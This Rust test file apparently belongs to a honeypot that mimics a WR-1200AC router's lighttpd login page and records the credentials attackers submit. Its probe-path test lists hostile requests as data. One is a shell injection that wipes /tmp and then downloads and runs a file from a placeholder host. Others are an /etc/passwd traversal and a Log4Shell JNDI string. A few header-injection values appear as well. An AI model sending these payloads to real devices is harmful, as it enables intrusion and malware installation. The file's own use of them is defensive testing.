//! Tests of [`super`]: pure functions over bytes, no sockets.

use super::super::parse::{Limits, parse_request};
use super::*;

fn req(wire: &str) -> Request {
    match parse_request(wire.as_bytes(), &Limits::default()) {
        Ok(Some((req, used))) => {
            assert_eq!(used, wire.len());
            req
        }
        other => panic!("test request does not parse: {other:?}"),
    }
}

fn get(path: &str) -> Request {
    req(&format!("GET {path} HTTP/1.1\r\nHost: 192.168.0.1\r\n\r\n"))
}

fn header<'a>(res: &'a Response, name: &str) -> Option<&'a str> {
    res.headers
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case(name))
        .map(|(_, v)| v.as_str())
}

fn names(res: &Response) -> Vec<&'static str> {
    res.headers.iter().map(|(n, _)| *n).collect()
}

fn body(res: &Response) -> &str {
    std::str::from_utf8(&res.body).unwrap()
}

fn post_form(path: &str, form: &str) -> Request {
    req(&format!(
        "POST {path} HTTP/1.1\r\nHost: 192.168.0.1\r\n\
Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{form}",
        form.len()
    ))
}

#[test]
fn login_page_content_and_headers() {
    let res = respond(&get("/"), None, true);
    assert_eq!((res.status, res.reason), (200, "OK"));
    assert_eq!(
        names(&res),
        [
            "Content-Type",
            "Cache-Control",
            "Pragma",
            "X-Frame-Options",
            "Content-Length",
            "Date",
            "Server"
        ]
    );
    assert_eq!(
        header(&res, "Content-Type"),
        Some("text/html; charset=utf-8")
    );
    assert_eq!(
        header(&res, "Cache-Control"),
        Some("no-cache, no-store, must-revalidate")
    );
    assert_eq!(header(&res, "X-Frame-Options"), Some("SAMEORIGIN"));
    assert_eq!(header(&res, "Server"), Some("lighttpd/1.4.59"));
    assert_eq!(
        header(&res, "Content-Length"),
        Some(res.body.len().to_string().as_str())
    );
    let date = header(&res, "Date").unwrap();
    assert!(httpdate::parse_http_date(date).is_ok(), "{date}");
    assert!(date.ends_with(" GMT"));
    let page = body(&res);
    assert!(page.contains("<title>WR-1200AC - Login</title>"));
    assert!(page.contains(r#"<form name="login" method="post" action="/login.cgi""#));
    assert!(page.contains(r#"name="username""#));
    assert!(page.contains(r#"type="password" class="txt" name="password""#));
    assert!(!page.contains("Invalid username or password"));
    assert!(page.ends_with("</html>\n"));
    for path in ["/login.html", "/index.html", "/login.htm", "/?lang=en"] {
        assert_eq!(respond(&get(path), None, true).body, res.body, "{path}");
    }
}

#[test]
fn head_has_no_body_but_the_same_content_length() {
    for path in ["/", "/robots.txt", "/nothing-here", "/cgi-bin/"] {
        let full = respond(&get(path), None, true);
        let head = respond(
            &req(&format!("HEAD {path} HTTP/1.1\r\nHost: h\r\n\r\n")),
            None,
            true,
        );
        assert!(head.body.is_empty());
        assert!(!full.body.is_empty());
        assert_eq!(head.status, full.status);
        assert_eq!(
            header(&head, "Content-Length"),
            Some(full.body.len().to_string().as_str()),
            "{path}"
        );
        assert_eq!(names(&head), names(&full));
    }
    // An empty answer to HEAD has no Content-Length, as with lighttpd.
    let head = respond(
        &req("HEAD /main.html HTTP/1.1\r\nHost: h\r\n\r\n"),
        None,
        true,
    );
    assert_eq!(head.status, 302);
    assert_eq!(header(&head, "Content-Length"), None);
}

#[test]
fn failed_login_reshows_the_form() {
    let res = respond(
        &post_form("/login.cgi", "username=admin&password=admin"),
        Some("s1"),
        true,
    );
    assert_eq!(res.status, 200);
    let page = body(&res);
    assert!(page.contains("<p class=\"err\">Invalid username or password</p>"));
    assert!(page.contains(r#"action="/login.cgi""#));
    assert!(page.contains(r#"name="password""#));
    assert_eq!(
        header(&res, "Set-Cookie"),
        Some("SESSIONID=s1; Path=/; HttpOnly")
    );
    // Any POST to the action fails the same way.
    let empty = respond(
        &req("POST /login.cgi HTTP/1.1\r\nHost: h\r\nContent-Length: 0\r\n\r\n"),
        None,
        true,
    );
    assert_eq!(empty.body, res.body);
    // Credentials in the query of a GET too; a bare GET goes back to the form.
    let query = respond(&get("/login.cgi?username=a&password=b"), None, true);
    assert_eq!(query.body, res.body);
    let bare = respond(&get("/login.cgi"), None, true);
    assert_eq!((bare.status, bare.reason), (302, "Found"));
    assert_eq!(header(&bare, "Location"), Some("/login.html"));
    assert_eq!(header(&bare, "Content-Length"), Some("0"));
}

#[test]
fn robots_and_favicon() {
    let res = respond(&get("/robots.txt"), None, true);
    assert_eq!(res.status, 200);
    assert_eq!(body(&res), "User-agent: *\nDisallow: /\n");
    assert_eq!(
        names(&res),
        [
            "Content-Type",
            "Accept-Ranges",
            "ETag",
            "Last-Modified",
            "X-Frame-Options",
            "Content-Length",
            "Date",
            "Server"
        ]
    );
    assert_eq!(header(&res, "Content-Type"), Some("text/plain"));
    assert!(httpdate::parse_http_date(header(&res, "Last-Modified").unwrap()).is_ok());
    // lighttpd offers ranges to HTTP/1.1 GET and HEAD only.
    let old = respond(&req("GET /robots.txt HTTP/1.0\r\n\r\n"), None, false);
    assert_eq!(header(&old, "Accept-Ranges"), None);

    let icon = respond(&get("/favicon.ico"), None, true);
    assert_eq!((icon.status, icon.reason), (404, "Not Found"));
}

#[test]
fn not_found_is_lighttpds_error_page() {
    let res = respond(&get("/nothing-here"), None, true);
    assert_eq!((res.status, res.reason), (404, "Not Found"));
    let expected = concat!(
        "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?>\n",
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\"\n",
        "         \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\n",
        "<html xmlns=\"http://www.w3.org/1999/xhtml\" xml:lang=\"en\" lang=\"en\">\n",
        " <head>\n",
        "  <title>404 Not Found</title>\n",
        " </head>\n",
        " <body>\n",
        "  <h1>404 Not Found</h1>\n",
        " </body>\n",
        "</html>\n",
    );
    assert_eq!(body(&res), expected);
    assert_eq!(
        names(&res),
        [
            "Content-Type",
            "X-Frame-Options",
            "Content-Length",
            "Date",
            "Server"
        ]
    );
    assert_eq!(header(&res, "Content-Type"), Some("text/html"));
    assert!(!res.closes_connection());
}

#[test]
fn probe_paths() {
    for path in [
        "/HNAP1/",
        "/HNAP1",
        "/shell?cd+/tmp;rm+-rf+*;wget+http://x/m;sh+m",
        "/.env",
        "/cgi-bin/luci",
        "/cgi-bin/ViewLog.asp",
        "/boaform/admin/formLogin",
        "/GponForm/diag_Form?images/",
        "/wp-login.php",
        "/..%2f..%2fetc/passwd",
        "/${jndi:ldap://x/a}",
        "/%00",
    ] {
        let res = respond(&get(path), None, true);
        assert_eq!(res.status, 404, "{path}");
        assert!(body(&res).contains("<h1>404 Not Found</h1>"), "{path}");
        assert!(!body(&res).contains("jndi"), "{path}");
    }
    let dir = respond(&get("/cgi-bin/"), None, true);
    assert_eq!((dir.status, dir.reason), (403, "Forbidden"));
    for path in ["/main.html", "/status.cgi", "/setup.cgi", "/apply.cgi"] {
        let res = respond(&get(path), None, true);
        assert_eq!(res.status, 302, "{path}");
        assert_eq!(header(&res, "Location"), Some("/login.html"));
    }
}

#[test]
fn targets_are_resolved_like_lighttpd() {
    for path in [
        "/./login.html",
        "//login.html",
        "/foo/../login.html",
        "/../../login.html",
        "/login%2ehtml",
        "/login.html#frag",
        "http://example.com/login.html",
        "HTTP://example.com",
        "https://example.com?x=1",
    ] {
        assert_eq!(respond(&get(path), None, true).status, 200, "{path}");
    }
    assert_eq!(normalize_path("/a/b/..").as_deref(), Some("/a/"));
    assert_eq!(normalize_path("/a//b/./c").as_deref(), Some("/a/b/c"));
    assert_eq!(
        normalize_path("/cgi-bin/x/..").as_deref(),
        Some("/cgi-bin/")
    );
    assert_eq!(
        normalize_path("/%2e%2e/%2e%2e/etc").as_deref(),
        Some("/etc")
    );
    assert_eq!(normalize_path("/a+b%20c").as_deref(), Some("/a+b c"));
    assert_eq!(normalize_path("/%ff").as_deref(), Some("/\u{fffd}"));
    assert_eq!(normalize_path("example.com:443"), None);
    assert_eq!(normalize_path("*"), None);
    let res = respond(&get("index.html"), None, true);
    assert_eq!(res.status, 400);
    assert!(res.closes_connection());
}

#[test]
fn methods_like_lighttpd() {
    let star = respond(&req("OPTIONS * HTTP/1.1\r\nHost: h\r\n\r\n"), None, true);
    assert_eq!(star.status, 200);
    assert_eq!(header(&star, "Allow"), Some("OPTIONS, GET, HEAD, POST"));
    assert_eq!(header(&star, "Content-Length"), Some("0"));
    assert!(star.body.is_empty());
    let page = respond(&req("OPTIONS / HTTP/1.1\r\nHost: h\r\n\r\n"), None, true);
    assert_eq!(page.status, 200);
    let missing = respond(
        &req("OPTIONS /nope HTTP/1.1\r\nHost: h\r\n\r\n"),
        None,
        true,
    );
    assert_eq!(missing.status, 404);

    // Known but not implemented: 501, connection kept.
    for method in ["PUT", "DELETE", "TRACE", "PROPFIND", "PATCH"] {
        let res = respond(
            &req(&format!("{method} / HTTP/1.1\r\nHost: h\r\n\r\n")),
            None,
            true,
        );
        assert_eq!(
            (res.status, res.reason),
            (501, "Not Implemented"),
            "{method}"
        );
        assert!(body(&res).contains("<title>501 Not Implemented</title>"));
        assert!(!res.closes_connection(), "{method}");
    }
    // Unknown (lighttpd's method names are case-sensitive): 501, connection closed.
    for method in ["FOO", "get", "Get", "M-SEARCH"] {
        let res = respond(
            &req(&format!("{method} / HTTP/1.1\r\nHost: h\r\n\r\n")),
            None,
            true,
        );
        assert_eq!(res.status, 501, "{method}");
        assert!(res.closes_connection(), "{method}");
    }
    let connect = respond(
        &req("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n"),
        None,
        true,
    );
    assert_eq!(
        (connect.status, connect.reason),
        (405, "Method Not Allowed")
    );
    assert!(connect.closes_connection());
}

#[test]
fn host_rules() {
    let res = respond(&req("GET / HTTP/1.1\r\n\r\n"), None, true);
    assert_eq!(res.status, 400);
    assert!(res.closes_connection());
    let two = respond(
        &req("GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"),
        None,
        true,
    );
    assert_eq!(two.status, 400);
    assert_eq!(
        respond(&req("GET / HTTP/1.0\r\n\r\n"), None, false).status,
        200
    );
    let te = respond(
        &req("POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
        None,
        false,
    );
    assert_eq!(te.status, 400);
}

#[test]
fn connection_header() {
    let kept11 = respond(&get("/"), None, true);
    assert_eq!(header(&kept11, "Connection"), None);
    assert!(!kept11.closes_connection());
    let closed11 = respond(&get("/"), None, false);
    assert_eq!(header(&closed11, "Connection"), Some("close"));
    assert!(closed11.closes_connection());
    let kept10 = respond(
        &req("GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n"),
        None,
        true,
    );
    assert_eq!(header(&kept10, "Connection"), Some("keep-alive"));
    let closed10 = respond(&req("GET / HTTP/1.0\r\n\r\n"), None, false);
    assert_eq!(header(&closed10, "Connection"), Some("close"));
    // lighttpd's order: Content-Length, Connection, Date, Server.
    let n = names(&closed10);
    assert_eq!(
        &n[n.len() - 4..],
        ["Content-Length", "Connection", "Date", "Server"]
    );
}

#[test]
fn set_cookie_format() {
    let res = respond(&get("/"), Some("0123456789abcdef"), true);
    assert_eq!(
        header(&res, "Set-Cookie"),
        Some("SESSIONID=0123456789abcdef; Path=/; HttpOnly")
    );
    assert_eq!(SESSION_COOKIE, "SESSIONID");
    // Nothing can break out of the header or the cookie value.
    let evil = respond(&get("/"), Some("a b;c\r\nX-Evil: 1\"\\,é"), true);
    let value = header(&evil, "Set-Cookie").unwrap();
    assert_eq!(value, "SESSIONID=abcX-Evil:1; Path=/; HttpOnly");
    let long = "x".repeat(1000);
    let capped = respond(&get("/"), Some(&long), true);
    assert_eq!(
        header(&capped, "Set-Cookie").map(str::len),
        Some("SESSIONID=; Path=/; HttpOnly".len() + 128)
    );
    let none = respond(&get("/"), Some(" ;\r\n"), true);
    assert_eq!(header(&none, "Set-Cookie"), None);
    assert_eq!(header(&respond(&get("/"), None, true), "Set-Cookie"), None);
    // Set on error pages and redirects too, when asked.
    let missing = respond(&get("/nope"), Some("abc"), true);
    assert_eq!(
        header(&missing, "Set-Cookie"),
        Some("SESSIONID=abc; Path=/; HttpOnly")
    );
    let moved = respond(&get("/main.html"), Some("abc"), true);
    assert_eq!(
        header(&moved, "Set-Cookie"),
        Some("SESSIONID=abc; Path=/; HttpOnly")
    );
}

#[test]
fn error_pages() {
    for (status, reason) in [
        (400, "Bad Request"),
        (413, "Payload Too Large"),
        (431, "Request Header Fields Too Large"),
        (501, "Not Implemented"),
        (505, "HTTP Version Not Supported"),
    ] {
        let res = error_response(status);
        assert_eq!((res.status, res.reason), (status, reason));
        assert!(res.closes_connection());
        assert_eq!(header(&res, "Connection"), Some("close"));
        assert_eq!(header(&res, "Content-Type"), Some("text/html"));
        assert_eq!(header(&res, "Server"), Some("lighttpd/1.4.59"));
        let title = format!("<title>{status} {reason}</title>");
        assert!(body(&res).contains(&title), "{status}");
        assert_eq!(
            header(&res, "Content-Length"),
            Some(res.body.len().to_string().as_str())
        );
    }
    // A code lighttpd has no phrase for: "599 ", as lighttpd writes it.
    let odd = error_response(599);
    assert_eq!(odd.reason, "");
    assert!(body(&odd).contains("<title>599 </title>"));
    let mut wire = Vec::new();
    odd.encode(&mut wire);
    assert!(wire.starts_with(b"HTTP/1.1 599 \r\n"));
}

#[test]
fn encoding() {
    let res = Response {
        status: 200,
        reason: "OK",
        headers: vec![
            ("Content-Type", "text/plain".to_owned()),
            ("X-Split", "a\r\nInjected: yes\0".to_owned()),
        ],
        body: b"hello".to_vec(),
    };
    let mut out = b"previous".to_vec();
    res.encode(&mut out);
    assert_eq!(
        out,
        b"previousHTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nX-Split: aInjected: yes\r\n\
Content-Length: 5\r\n\r\nhello"
    );

    let page = respond(&get("/"), None, true);
    let mut wire = Vec::new();
    page.encode(&mut wire);
    let text = String::from_utf8(wire).unwrap();
    assert!(text.starts_with("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"));
    assert!(text.contains("\r\nServer: lighttpd/1.4.59\r\n\r\n<!DOCTYPE html>"));
    assert_eq!(text.matches("Content-Length").count(), 1);
    let (head, rest) = text.split_once("\r\n\r\n").unwrap();
    assert_eq!(rest.as_bytes(), page.body);
    assert!(head.contains(&format!("\r\nContent-Length: {}\r\n", page.body.len())));

    // HEAD keeps its Content-Length and sends no body.
    let head_res = respond(&req("HEAD / HTTP/1.1\r\nHost: h\r\n\r\n"), None, true);
    let mut wire = Vec::new();
    head_res.encode(&mut wire);
    let text = String::from_utf8(wire).unwrap();
    assert!(text.ends_with("\r\n\r\n"));
    assert!(text.contains(&format!("\r\nContent-Length: {}\r\n", page.body.len())));
}

#[test]
fn login_attempt_variants() {
    let pairs = |r: &Request| login_attempt(r);
    let creds = |u: &str, p: &str| Some((u.to_owned(), p.to_owned()));
    assert_eq!(
        pairs(&post_form(
            "/login.cgi",
            "username=admin&password=1234&submit_flag=login"
        )),
        creds("admin", "1234")
    );
    assert_eq!(
        pairs(&post_form("/login.cgi", "user=root&pass=root")),
        creds("root", "root")
    );
    assert_eq!(
        pairs(&post_form("/login.cgi", "login=support&pwd=s%40pport+1")),
        creds("support", "s@pport 1")
    );
    assert_eq!(
        pairs(&post_form("/", "Username=a&PASSWD=b")),
        creds("a", "b")
    );
    assert_eq!(
        pairs(&post_form("/login.html", "usr=a&pw=b")),
        creds("a", "b")
    );
    // The form's own names win over a variant sent alongside.
    assert_eq!(
        pairs(&post_form(
            "/login.cgi",
            "login=Login&username=admin&password=x"
        )),
        creds("admin", "x")
    );
    assert_eq!(
        pairs(&post_form("/login.cgi", "password=only")),
        creds("", "only")
    );
    assert_eq!(
        pairs(&post_form("/login.cgi", "username=only")),
        creds("only", "")
    );
    assert_eq!(pairs(&post_form("/login.cgi", "foo=bar")), None);
    assert_eq!(
        pairs(&post_form("/elsewhere.cgi", "username=a&password=b")),
        None
    );
    assert_eq!(
        pairs(&get("/login.cgi?username=a&password=b")),
        creds("a", "b")
    );
    assert_eq!(pairs(&get("/?username=a&password=b")), None);
    assert_eq!(pairs(&get("/login.cgi")), None);
    // Query of a POST, when the body has no credentials.
    assert_eq!(
        pairs(&req(
            "POST /login.cgi?user=q&pass=w HTTP/1.1\r\nHost: h\r\nContent-Length: 0\r\n\r\n"
        )),
        creds("q", "w")
    );
    // Without a Content-Type (hand-written scripts); not from JSON.
    assert_eq!(
        pairs(&req(
            "POST /login.cgi HTTP/1.1\r\nHost: h\r\nContent-Length: 21\r\n\r\nusername=a&password=b"
        )),
        creds("a", "b")
    );
    assert_eq!(
        pairs(&req(
            "POST /login.cgi HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n\
Content-Length: 33\r\n\r\n{\"username\":\"a\",\"password\":\"b\"}  "
        )),
        None
    );
    // Chunked bodies count too.
    assert_eq!(
        pairs(&req(
            "POST /login.cgi HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n\
a\r\nusername=a\r\nb\r\n&password=b\r\n0\r\n\r\n"
        )),
        creds("a", "b")
    );
}

#[test]
fn login_attempt_is_bounded() {
    let long_user = "u".repeat(1000);
    // 'é' is two bytes: 255 ASCII bytes then 'é' would end at byte 257.
    let long_pass = format!("{}{}", "p".repeat(255), "é".repeat(10));
    let form = format!("username={long_user}&password={long_pass}");
    let (user, pass) = login_attempt(&post_form("/login.cgi", &form)).unwrap();
    assert_eq!(user.len(), 256);
    assert_eq!(pass.len(), 255);
    assert!(pass.chars().all(|c| c == 'p'));
    let (_, pass) = login_attempt(&post_form("/login.cgi", "password=%FF%FE")).unwrap();
    assert_eq!(pass, "\\xff\\xfe", "exact bytes, not U+FFFD");
    // A cut never splits an escape: 254 bytes, then "\xff" would end at byte 258.
    let form = format!("password={}%FF", "p".repeat(254));
    let (_, pass) = login_attempt(&post_form("/login.cgi", &form)).unwrap();
    assert_eq!(pass, "p".repeat(254));
    let form = format!("password={}%5C%5C", "p".repeat(255));
    let (_, pass) = login_attempt(&post_form("/login.cgi", &form)).unwrap();
    assert_eq!(pass, "p".repeat(255));
}

#[test]
fn every_method_and_path_mix_answers_without_panic() {
    let methods = [
        "GET", "HEAD", "POST", "OPTIONS", "PUT", "CONNECT", "get", "X",
    ];
    let paths = [
        "/",
        "*",
        "/login.cgi?username=%",
        "http://",
        "https://h",
        "/%",
        "/%e",
        "/..",
        "//..//../",
        "/\u{fffd}",
    ];
    for method in methods {
        for path in paths {
            for version in ["HTTP/1.0", "HTTP/1.1"] {
                let r = req(&format!("{method} {path} {version}\r\nHost: h\r\n\r\n"));
                for keep in [false, true] {
                    let res = respond(&r, Some("id"), keep);
                    assert!(!res.reason.is_empty());
                    assert!((200..600).contains(&res.status));
                    let mut wire = Vec::new();
                    res.encode(&mut wire);
                    assert!(wire.starts_with(b"HTTP/1.1 "));
                    if method == "HEAD" {
                        assert!(res.body.is_empty());
                    }
                }
                let _ = login_attempt(&r);
            }
        }
    }
}
